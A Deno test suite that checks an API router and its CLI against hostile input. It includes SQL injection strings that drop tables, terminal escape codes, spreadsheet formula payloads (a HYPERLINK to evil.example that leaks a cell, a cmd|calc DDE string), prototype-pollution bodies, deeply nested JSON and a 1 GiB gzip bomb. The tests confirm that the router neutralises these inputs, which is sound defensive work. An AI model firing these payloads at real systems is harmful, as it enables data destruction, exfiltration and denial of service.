/** Text that attacks SQL, terminals, logs, spreadsheets, metrics, parsers. Prints a table. */
import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import zlib from "node:zlib";
import { FaultTable } from "../support/fault_table.ts";
import { RawClient, rawRequest } from "../support/raw_client.ts";
import { eventually, Router, runProgram, TEST_TOKEN } from "../support/router.ts";
import {
  chatCompletion,
  chatReply,
  chunk,
  FakeUpstream,
  head,
  LAST_CHUNK,
  reply,
  type Script,
} from "../support/upstream.ts";

const SQL = `'; DROP TABLE records; DELETE FROM openai_upstreams; --`;
/** Colours, a cursor's move, a title, an 8-bit CSI, a reordering mark, line ends, a bell, an isolate. */
const TERMINAL = "a\x1b[31m\x1b[2J\x1b]0;owned\x07\u009b31m\u202eb\r\n\u2028INFO forged\u2066c\x7f\ufeff";
const DRIVES_TERMINAL = /(?!\n)[\p{Cc}\p{Bidi_Control}\u2028\u2029\ufeff]/u;
const FORMULA = `=HYPERLINK("http://evil.example/?x="&A1,"click")`;

Deno.test("hostile text is only text", async (t) => {
  const table = new FaultTable("hostile text", t);
  await using upstream = new FakeUpstream(chatReply("ok"));
  await using router = await Router.start({ upstreams: [{ endpoint: upstream.endpoint, name: "up" }] });
  const cli = (...args: string[]) => runProgram(args, { cwd: router.directory });
  const isWhole = () => {
    assert.equal(router.query("PRAGMA integrity_check")[0]?.integrity_check, "ok");
    assert.equal(
      router.query("SELECT count(*) AS n FROM openai_upstreams WHERE deleted_at IS NULL")[0]?.n,
      1,
    );
    assert.equal(
      router.query("SELECT value FROM config_kvs WHERE key = 'authorization'")[0]?.value,
      TEST_TOKEN,
    );
  };

  await table.case("SQL in model, message, user agent, path, query", "stored as it is", async () => {
    const headers = { "user-agent": SQL, "x-request-id": SQL };
    const response = await router.chat({ model: SQL, messages: [{ role: "user", content: SQL }] }, {
      headers,
    });
    await response.body?.cancel();
    const record = await router.recordOf(response);
    assert.deepEqual([record.model, record.user_agent], [SQL, SQL]);
    const path = `/files/';DROP%20TABLE%20records;--`;
    const second = await router.fetch(`${path}?q=';DROP TABLE records;--`);
    await second.body?.cancel();
    assert.equal((await router.recordOf(second)).path, `/v1${path}`);
    isWhole();
    return "stored as it is";
  });

  await table.case("SQL in what an upstream says", "stored as it is", async () => {
    upstream.script = chatReply(SQL, SQL);
    const response = await router.chat();
    await response.body?.cancel();
    const record = await router.recordOf(response);
    upstream.script = chatReply("ok");
    assert.deepEqual([record.response, record.response_model], [SQL, SQL]);
    isWhole();
    return "stored as it is";
  });

  for (
    const flag of [
      "--model",
      "--client",
      "--text",
      "--upstream",
      "--status",
      "--outcome",
      "--since",
      "--before",
    ]
  ) {
    await table.case(`SQL in records list ${flag}`, "no harm", async () => {
      const { code, stderr } = await cli("records", "list", flag, `x' OR 1=1; ${SQL}`, "--json");
      assert.ok(code === 0 || code === 1 || code === 2);
      assert.doesNotMatch(stderr, /syntax error|\n\s+at /);
      isWhole();
      return "no harm";
    });
  }
  await table.case("SQL in add, edit, move, remove, token", "no harm", async () => {
    const commands = [
      ["edit", SQL, "--name", "x"],
      ["remove", SQL],
      ["move", SQL, "1"],
      ["disable", SQL],
      ["token", "remove", SQL],
      ["records", "show", SQL],
      ["records", "replay", SQL],
    ];
    for (const args of commands) assert.notEqual((await cli(...args)).code, 0, args.join(" "));
    assert.equal((await cli("edit", "up", "--name", SQL)).code, 0);
    assert.equal((await cli("edit", SQL, "--name", "up")).code, 0);
    isWhole();
    return "no harm";
  });

  await literalSearches(table, { upstream, router, cli });
  await terminals(table, { upstream, router, cli });

  await table.case("formulas in records export --format csv", "cells are text", async () => {
    const headers = { "user-agent": "@SUM(1+1)" };
    upstream.script = chatReply("+1+cmd|' /C calc'!A0", "-2+3");
    const response = await router.chat({ model: FORMULA }, { headers });
    await response.body?.cancel();
    await router.recordOf(response);
    const { stdout } = await cli(
      "records",
      "export",
      "--format",
      "csv",
      "--model",
      FORMULA.replaceAll("?", "*"),
    );
    for (const cell of [FORMULA, "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "-2+3"]) {
      assert.ok(stdout.includes(`'${cell.replaceAll('"', '""')}`), cell);
    }
    assert.doesNotMatch(stdout, /(^|,)"?[=+@-](?!\d)/m);
    return "cells are text";
  });

  await table.case("quotes and line ends in metrics' labels", "escaped or `other`", async () => {
    upstream.script = chatReply("ok");
    const models = ['m"} 1\nforged{x="', 'quote"', "back\\slash", "line\nend", "\u2028", "}", "{", "m 1"];
    for (const model of models) await (await router.chat({ model })).body?.cancel();
    const text = await eventually(async () => {
      const metrics = await router.metrics();
      return metrics.includes('model="back\\\\slash"') ? metrics : null;
    }, "the metrics");
    assert.doesNotMatch(text, /^forged/m);
    for (const line of text.split("\n").filter((each) => each !== "")) {
      assert.match(line, /^(#.*|[a-zA-Z_:][\w:]*(\{(\w+="([^"\\]|\\.)*",?)*\})? \S+)$/);
    }
    return "escaped or `other`";
  });

  await table.case("__proto__ and constructor as models, keys, form fields", "only names", async () => {
    const bodies = [
      '{"model":"__proto__","__proto__":{"isAdmin":true,"stream":true}}',
      '{"model":"constructor","constructor":{"prototype":{"stream":true}}}',
      '{"__proto__":{"model":"inherited","stream":true}}',
      '{"model":"toString"}',
    ];
    router.execute(`UPDATE openai_upstreams SET model_map = '{"__proto__":"mapped","valueOf":"other"}'`);
    await eventually(async () => {
      const response = await router.fetch("/chat/completions", { method: "POST", body: bodies[0] ?? "" });
      await response.body?.cancel();
      return upstream.requests.at(-1)?.text.startsWith('{"model":"mapped"') ? true : null;
    }, "the model map");
    for (const body of bodies.slice(1)) {
      const response = await router.fetch("/chat/completions", { method: "POST", body });
      assert.equal(response.status, 200);
      await response.body?.cancel();
      const record = await router.recordOf(response);
      const parsed: { model?: unknown } = JSON.parse(body);
      const model = Object.hasOwn(parsed, "model") ? parsed.model : null;
      assert.deepEqual([record.model, record.is_stream], [model, 0]);
      assert.equal(upstream.requests.at(-1)?.text, body);
    }
    const form = new FormData();
    form.set("__proto__", "x");
    form.set("model", "__proto__");
    const response = await router.fetch("/audio/transcriptions", { method: "POST", body: form });
    assert.equal(response.status, 200);
    await response.body?.cancel();
    upstream.script = reply(
      200,
      `{"__proto__":{"choices":[]},"constructor":1,"choices":[{"message":{"content":"x"}}]}`,
    );
    assert.equal((await router.chat()).status, 200);
    router.execute("UPDATE openai_upstreams SET model_map = NULL");
    return "only names";
  });
  table.print();
});

interface Stage {
  readonly upstream: FakeUpstream;
  readonly router: Router;
  readonly cli: (...args: string[]) => Promise<{ code: number; stdout: string; stderr: string }>;
}

async function literalSearches(table: FaultTable, { upstream, router, cli }: Stage): Promise<void> {
  const said = [
    "100% sure",
    "100 sure",
    "snake_case",
    "snakeXcase",
    "[ab]",
    "a",
    'say "x" AND y',
    "back\\slash",
  ];
  for (const text of said) {
    upstream.script = chatReply(`reply to ${text}`);
    await (await router.chat({ model: `m ${text}`, messages: [{ role: "user", content: text }] })).body
      ?.cancel();
  }
  await router.recorded(said.length);
  const found = async (...args: string[]): Promise<string> => {
    const { stdout, code, stderr } = await cli("records", "list", "--json", ...args);
    if (code !== 0) return stderr;
    const records: { model: string }[] = JSON.parse(stdout);
    return records.map(({ model }) => model).sort().join(", ");
  };
  const searches: [args: string[], expected: string][] = [
    [["--model", "m 100%"], ""],
    [["--model", "m snake_case"], "m snake_case"],
    [["--model", "m snake?case"], "m snakeXcase, m snake_case"],
    [["--model", "m [ab]*"], "m [ab]"],
    [["--model", "%"], ""],
    [["--client", "%"], ""],
    [["--client", "_"], ""],
    [["--text", "snake_case"], "m snake_case"],
    [["--text", '"100% sure"'], "m 100 sure, m 100% sure"],
    [["--text", "%"], ""],
  ];
  for (const [args, expected] of searches) {
    await table.case(`search ${args.join(" ")}`, expected === "" ? "nothing" : expected, async () => {
      return await found(...args) || "nothing";
    });
  }
  for (const text of ['"', "*", "NEAR(", "a AND", "col:x", "^", "'", "(", "\\"]) {
    await table.case(`search --text ${text}`, "no syntax error", async () => {
      const { stderr } = await cli("records", "list", "--text", text);
      return /syntax|fts5|SQL/i.test(stderr) ? stderr : "no syntax error";
    });
  }
}

async function terminals(table: FaultTable, { upstream, router, cli }: Stage): Promise<void> {
  upstream.script = chatReply(TERMINAL, TERMINAL);
  const response = await router.chat({ model: TERMINAL, messages: [{ role: "user", content: TERMINAL }] });
  await response.body?.cancel();
  const { id } = await router.recordOf(response);
  upstream.script = reply(500, JSON.stringify({ error: { message: TERMINAL } }));
  const failed = await router.chat({ model: TERMINAL });
  await failed.body?.cancel();
  const failure = await router.recordOf(failed);
  router.execute("UPDATE openai_upstreams SET name = ?, timeout = 30", TERMINAL);
  await eventually(async () => {
    const metrics = await router.metrics();
    return metrics.includes("owned") ? true : null;
  }, "the name");
  for (const what of ["model and log line", "upstream's name"]) {
    await table.case(`terminal codes in the log: ${what}`, "harmless", async () => {
      await (await router.chat({ model: TERMINAL })).body?.cancel();
      return DRIVES_TERMINAL.test(router.text) ? JSON.stringify(router.text) : "harmless";
    });
  }
  const commands = [
    ["list"],
    ["list", "--json"],
    ["edit", "1", "--timeout", "31"],
    ["disable", "1"],
    ["enable", "1"],
    ["records", "list"],
    ["records", "list", "--json"],
    ["records", "show", String(id)],
    ["records", "show", String(failure.id)],
    ["records", "show", String(id), "--json"],
    ["records", "tail", "-n", "5"],
    ["records", "export", "--format", "jsonl"],
    [TERMINAL],
    ["list", "--database", `${TERMINAL}/x`],
    ["records", "list", "--status", TERMINAL],
  ];
  for (const args of commands) {
    const name = args.join(" ").replaceAll(TERMINAL, "CODES");
    await table.case(`terminal codes in ${name}`, "harmless", async () => {
      const { stdout, stderr } = await cli(...args);
      const seen = stdout + stderr;
      return DRIVES_TERMINAL.test(seen) ? JSON.stringify(DRIVES_TERMINAL.exec(seen)) : "harmless";
    });
  }
  await table.case("terminal codes in the x-oar-upstream header", "visible ASCII", async () => {
    const name = (await router.chat()).headers.get("x-oar-upstream") ?? "";
    return /^[\x20-\x7e]+$/.test(name) ? "visible ASCII" : name;
  });
  router.execute("UPDATE openai_upstreams SET name = 'up'");
}

const DEPTH = 100_000;
const DEEP = "[".repeat(DEPTH) + "]".repeat(DEPTH);

/** An event stream of these events. */
function events(...data: string[]): Script {
  return async (_request, wire) => {
    await wire.write(head(200, { "content-type": "text/event-stream", "transfer-encoding": "chunked" }));
    for (const each of data) await wire.write(chunk(`data: ${each}\n\n`));
    await wire.write(LAST_CHUNK);
  };
}

Deno.test("deep JSON and compressed bombs neither crash nor fill the router", async (t) => {
  const table = new FaultTable("bombs", t);
  await using upstream = new FakeUpstream(chatReply("ok"));
  await using router = await Router.start({ upstreams: [{ endpoint: upstream.endpoint }] });
  const record = async (response: Response): Promise<Record<string, unknown>> => {
    await response.arrayBuffer().catch(() => null);
    return await router.recordOf(response);
  };
  const completion = JSON.stringify(chatCompletion("ok"));
  const deep: [name: string, script: Script, isStream: boolean][] = [
    ["reply", reply(200, completion.replace("{", `{"x":${DEEP},`)), false],
    [
      "reply's content",
      reply(200, `{"choices":[{"message":{"content":${DEEP}},"finish_reason":"stop"}]}`),
      false,
    ],
    [
      "tool arguments",
      reply(200, `{"choices":[{"message":{"tool_calls":[{"function":{"name":"f","arguments":${DEEP}}}]}}]}`),
      false,
    ],
    ["error", reply(500, `{"error":${DEEP}}`), false],
    ["error-only success", reply(200, `{"error":${DEEP}}`), false],
    ["event", events(`{"choices":[{"delta":{"content":"x","y":${DEEP}}}]}`, "[DONE]"), true],
    ["error event", events(`{"error":${DEEP}}`), true],
    [
      "event's tool arguments",
      events(
        `{"choices":[{"delta":{"tool_calls":[{"index":0,"function":{"arguments":${DEEP}}}]}}]}`,
        "[DONE]",
      ),
      true,
    ],
  ];
  for (const [name, script, stream] of deep) {
    await table.case(`100,000 levels in the ${name}`, "recorded", async () => {
      upstream.script = script;
      const { outcome } = await record(await router.chat({ stream }));
      return `recorded: ${outcome}`;
    });
  }
  await table.case("100,000 levels in a request", "recorded: complete", async () => {
    upstream.script = chatReply("ok");
    const body = `{"model":"deep","messages":${DEEP}}`;
    const response = await router.fetch("/chat/completions", { method: "POST", body });
    const { outcome, id } = await record(response);
    assert.equal(upstream.requests.at(-1)?.text, body);
    for (const args of [["show", String(id)], ["show", String(id), "--json"], ["list", "--text", "deep"]]) {
      const { code, stderr } = await runProgram(["records", ...args], { cwd: router.directory });
      assert.deepEqual([code, stderr.includes("RangeError")], [0, false], `${args} ${stderr.slice(0, 500)}`);
    }
    return `recorded: ${outcome}`;
  });
  await table.case("100,000 levels with a model map", "recorded: complete", async () => {
    router.execute(`UPDATE openai_upstreams SET model_map = '{"deep":"mapped"}'`);
    const body = `{"messages":${DEEP},"model":"deep"}`;
    return await eventually(async () => {
      const { outcome } = await record(await router.fetch("/chat/completions", { method: "POST", body }));
      const isMapped = upstream.requests.at(-1)?.text.endsWith('"model":"mapped"}');
      return isMapped ? `recorded: ${outcome}` : null;
    }, "the model map");
  });

  const member = zlib.gzipSync(Buffer.alloc(64 * 1024 * 1024, 0x20));
  const bomb = Buffer.concat(Array.from({ length: 16 }, () => member));
  const send = (status: number, type: string, pieceBytes: number): Script => async (_request, wire) => {
    await wire.write(head(status, {
      "content-type": type,
      "content-encoding": "gzip",
      "content-length": String(bomb.length),
    }));
    for (let at = 0; at < bomb.length; at += pieceBytes) await wire.write(bomb.subarray(at, at + pieceBytes));
  };
  const bombs: [name: string, script: Script, isStream: boolean][] = [
    ["JSON", send(200, "application/json", 65_536), false],
    ["an event stream", send(200, "text/event-stream", 8_192), true],
    ["an error", send(500, "application/json", 65_536), false],
    ["text", send(200, "text/plain", 65_536), false],
  ];
  const before = peakBytes(router.pid);
  for (const [name, script, stream] of bombs) {
    await table.case(`gzip of 1 GiB as ${name}, last upstream`, "settled, peak memory bounded", async () => {
      upstream.script = script;
      using client = await RawClient.connect(router.port);
      const body = JSON.stringify({ model: "m", stream, messages: [] });
      await client.send(rawRequest("/v1/chat/completions", { token: TEST_TOKEN, body }));
      await client.readUntil("\r\n\r\n");
      await client.readToEnd();
      const isRaw = client.body.includes(bomb.subarray(0, 4096));
      const grown = Math.round((peakBytes(router.pid) - before) / 1_048_576);
      assert.ok(grown < 400, `peak memory grew by ${grown} MiB`);
      return `settled, peak memory bounded: ${
        isRaw ? "relayed raw" : client.text.slice(9, 12)
      }, +${grown} MiB`;
    });
  }
  await table.case("the server goes on", "200", async () => {
    upstream.script = chatReply("ok");
    const response = await router.chat();
    await response.body?.cancel();
    assert.doesNotMatch(router.text, /RangeError|panicked|Maximum call stack/);
    return String(response.status);
  });
  table.print();
});

/** Peak memory of the process; 0 without /proc. */
function peakBytes(pid: number): number {
  try {
    const status = Deno.readTextFileSync(`/proc/${pid}/status`);
    return Number(/VmHWM:\s+(\d+) kB/.exec(status)?.[1] ?? 0) * 1024;
  } catch {
    return 0;
  }
}
